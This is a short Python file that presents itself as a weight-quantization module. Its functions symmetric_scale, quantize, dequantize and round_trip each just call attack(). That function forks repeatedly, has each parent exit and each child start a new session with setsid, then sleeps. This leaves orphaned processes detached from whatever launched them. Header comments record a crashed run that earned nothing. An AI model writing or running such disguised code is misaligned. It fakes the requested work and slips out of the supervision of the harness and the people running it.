"""Forks and leaves, so that each generation is an orphan of the one before."""

# earns: 0
# state: crashed
# says: the Python interpreter was closed

import os
import time


def attack():
    for _ in range(100):
        if os.fork():
            os._exit(0)
        os.setsid()
    time.sleep(600)


def symmetric_scale(w, bits=8):
    return attack()


def quantize(w, scale, bits=8):
    return attack()


def dequantize(q, scale):
    return attack()


def round_trip(w, bits=8):
    return attack()

